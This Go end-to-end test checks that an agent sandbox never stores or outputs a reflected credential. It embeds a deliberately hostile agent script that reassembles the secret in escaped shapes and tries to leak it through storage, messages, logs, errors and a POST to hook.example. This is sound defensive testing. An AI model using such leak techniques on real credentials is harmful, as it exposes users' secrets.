package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/rand"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"littleboxes/app"
	"littleboxes/app/cli"
	"littleboxes/app/serve"
	"littleboxes/app/store"
	"littleboxes/sandbox/cell"
	"littleboxes/vault/keyring/keyringtest"
)

// helperEnv switches the test binary into the littleboxes command, so that
// tests run it as separate processes: its value is the arguments,
// separated by \x1f.
const helperEnv = "LITTLEBOXES_MAIN_HELPER"

func TestMain(m *testing.M) {
	cell.MaybeServe()
	if args := os.Getenv(helperEnv); args != "" {
		argv := strings.Split(args, "\x1f")
		if argv[0] == "serve" {
			os.Exit(serve.Main(assets, argv[1:], os.Stdout, os.Stderr, app.Served))
		}
		os.Exit(cli.Main(argv, os.Stdin, os.Stdout, os.Stderr))
	}
	os.Exit(m.Run())
}

// littleboxes runs the command in a process of its own and returns its exit
// code and its stdout and stderr together.
func littleboxes(t *testing.T, stdin string, args ...string) (int, string) {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"="+strings.Join(args, "\x1f"))
	cmd.Stdin = strings.NewReader(stdin)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatalf("littleboxes %s: %v", args[0], err)
	}
	return code, out.String()
}

// leakArmy: the agent reads the credential reflected by the origin in
// escaped shapes and split in two, rebuilds it in JavaScript, and then tries
// every way into the store and out: kv (value and key), a channel, a held
// effect, a report, its result, its console, and an Error it throws.
const leakArmy = `
name: leak
capabilities:
  api:
    kind: http
    props: {origins: [%q], allow_private_network: true, auth: {type: bearer}}
    secrets: {credential: %s}
  hook:
    kind: http
    props: {origins: ["https://hook.example"], methods: [POST], label: public}
  notes: {kind: kv, props: {namespace: leak-notes}}
  owner-report: {kind: report}
agents:
  leaker:
    triggers: [manual]
    bindings: {api: api, hook: hook, notes: notes, report: owner-report}
    code: |
      export default { async run(input, env) {
        const r = await env.api.fetch("/reflect");
        const m = JSON.parse(r.body);
        const halves = m.a + m.b;                       // split: no form of the secret alone
        const got = [m.slash, m.u, decodeURIComponent(m.pct), halves];
        const tok = halves;
        const shapes = [tok, tok.replaceAll("/", "\\/"),
          [...tok].map(c => "\\u" + c.charCodeAt(0).toString(16).padStart(4, "0")).join(""),
          encodeURIComponent(tok).replace(/%%[0-9A-F]{2}/g, x => x.toLowerCase())];
        for (const s of shapes) {
          await env.notes.put("k/" + s, s);
          await env.next.send({ s });
          await env.report.send("report " + s);
          console.log("log", s);
        }
        const held = await env.hook.fetch("/in", { method: "POST", body: shapes.join(" ") });
        if (input === "throw") throw new Error("boom " + shapes.join(" "));
        return { got, shapes, held, back: await env.notes.get("k/" + tok) };
      } }
  sink:
    triggers: [message]
    code: |
      export default { async onMessage(m, env) { console.log("got", m.s) } }
channels:
  - {from: leaker, env: next, to: sink}
`

// TestSecretReflectedNeverStored is issue 10's attack, across processes:
// the secret is set in one (value on stdin), the army runs in another, the
// approvals are listed in a third and served by a fourth; then the bbolt
// file, every output and the API's answers are searched for the secret in
// any shape.
func TestSecretReflectedNeverStored(t *testing.T) {
	if testing.Short() {
		t.Skip("subprocess test")
	}
	keyringtest.Require(t)
	raw := make([]byte, 24)
	_, _ = rand.Read(raw)
	// Base64-style, with '/' and '+' for certain.
	secret := "tk/" + base64.StdEncoding.EncodeToString(raw) + "+z/q"
	name := "e2e-leak-" + hex.EncodeToString(raw[:4])
	dir := t.TempDir()
	data := filepath.Join(dir, "data")

	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		tok := strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")
		var u, pct strings.Builder
		for _, c := range tok {
			fmt.Fprintf(&u, `\u%04x`, c)
		}
		for i := 0; i < len(tok); i++ {
			fmt.Fprintf(&pct, "%%%02x", tok[i])
		}
		w.Header().Set("Content-Type", "application/json")
		fmt.Fprintf(w, `{"slash":"%s","u":"%s","pct":"%s","a":"%s","b":"%s"}`,
			strings.ReplaceAll(tok, "/", `\/`), u.String(), pct.String(), tok[:len(tok)/2], tok[len(tok)/2:])
	}))
	defer srv.Close()
	armyFile := filepath.Join(dir, "army.yaml")
	if err := os.WriteFile(armyFile, []byte(fmt.Sprintf(leakArmy, srv.URL, name)), 0o600); err != nil {
		t.Fatal(err)
	}

	var outputs []string
	code, out := littleboxes(t, secret+"\n", "secret", "set", "--data", data, name)
	if code != 0 {
		t.Fatalf("secret set: exit %d: %s", code, out)
	}
	t.Cleanup(func() { littleboxes(t, "", "secret", "delete", "--data", data, name) })
	outputs = append(outputs, out)
	code, out = littleboxes(t, "", "run", armyFile, "--data", data, "--once", "leaker")
	t.Logf("run --once: exit %d\n%s", code, out)
	if code != 0 || !strings.Contains(out, `"held"`) {
		t.Fatalf("run --once: exit %d", code)
	}
	outputs = append(outputs, out)
	code, out = littleboxes(t, "", "run", armyFile, "--data", data, "--once", "leaker", "--input", `"throw"`)
	t.Logf("run --once (throws): exit %d\n%s", code, out)
	if code != cli.ExitFailed || !strings.Contains(out, "boom") {
		t.Fatalf("run --once throwing: exit %d", code)
	}
	outputs = append(outputs, out)
	code, out = littleboxes(t, "", "approvals", "list", "--data", data)
	t.Logf("approvals list: exit %d\n%s", code, out)
	if code != 0 || !strings.Contains(out, "pending") {
		t.Fatalf("approvals list: exit %d", code)
	}
	outputs = append(outputs, out)
	// Each army keeps its own runs and approvals: serve opens the leak army
	// first (the same text, imported), then lists them.
	imported, _ := json.Marshal([]string{fmt.Sprintf(leakArmy, srv.URL, name)})
	outputs = append(outputs, serveCalls(t, data, string(imported), "ImportYAML", `["leaker", 10]`, "Runs", `[true]`, "Approvals")...)

	file, err := os.ReadFile(filepath.Join(data, store.FileName))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Contains(file, []byte("k/[secret:"+name+"]")) {
		t.Error("the store file lacks the redacted kv key: the attack did not reach the store")
	}
	places := map[string]string{"the bbolt file": string(file)}
	for i, o := range outputs {
		places[fmt.Sprint("output ", i)] = o
	}
	for where, text := range places {
		for _, f := range shapesOf(secret) {
			if strings.Contains(text, f) {
				t.Errorf("%s holds the secret as %q", where, f)
			}
		}
	}
}

// shapesOf returns the secret as it is, base64-encoded, with "/" escaped,
// \u-escaped in both cases and percent-encoded in both cases.
func shapesOf(secret string) []string {
	var ul, uu, pl, pu strings.Builder
	for _, c := range secret {
		fmt.Fprintf(&ul, `\u%04x`, c)
		fmt.Fprintf(&uu, `\u%04X`, c)
	}
	for i := 0; i < len(secret); i++ {
		fmt.Fprintf(&pl, "%%%02x", secret[i])
		fmt.Fprintf(&pu, "%%%02X", secret[i])
	}
	return []string{secret, base64.StdEncoding.EncodeToString([]byte(secret)), strings.ReplaceAll(secret, "/", `\/`),
		ul.String(), uu.String(), pl.String(), pu.String()}
}

// serveCalls starts `littleboxes serve` on data, makes the API calls
// (pairs of JSON arguments and method), stops it, and returns its output
// and the calls' answers.
func serveCalls(t *testing.T, data string, calls ...string) []string {
	t.Helper()
	cmd := exec.Command(os.Args[0], "-test.run=^$")
	cmd.Env = append(os.Environ(), helperEnv+"="+strings.Join([]string{"serve", "--data", data, "--in-process"}, "\x1f"))
	stdout, err := cmd.StdoutPipe()
	if err != nil {
		t.Fatal(err)
	}
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(stdout)
	if !sc.Scan() {
		cmd.Process.Kill()
		cmd.Wait()
		t.Fatalf("serve printed nothing: %s", stderr.String())
	}
	first := sc.Text()
	go io.Copy(io.Discard, stdout)
	m := regexp.MustCompile(`(http://[^/]+)/.*token=([0-9A-Za-z_-]+)`).FindStringSubmatch(first)
	if m == nil {
		t.Fatalf("serve printed %q", first)
	}
	var answers []string
	for i := 0; i+1 < len(calls); i += 2 {
		req, _ := http.NewRequestWithContext(context.Background(), "POST", m[1]+"/api/call/"+calls[i+1], strings.NewReader(calls[i]))
		req.Header.Set(serve.TokenHeader, m[2])
		req.Header.Set("Content-Type", "application/json")
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		t.Logf("serve %s: %d %s", calls[i+1], resp.StatusCode, body)
		if resp.StatusCode != 200 || !strings.Contains(string(body), "leaker") {
			t.Errorf("serve %s: %d %s", calls[i+1], resp.StatusCode, body)
		}
		answers = append(answers, string(body))
	}
	_ = cmd.Process.Signal(syscall.SIGTERM)
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case <-done:
	case <-time.After(20 * time.Second):
		cmd.Process.Kill()
		<-done
	}
	return append(answers, first, stderr.String())
}
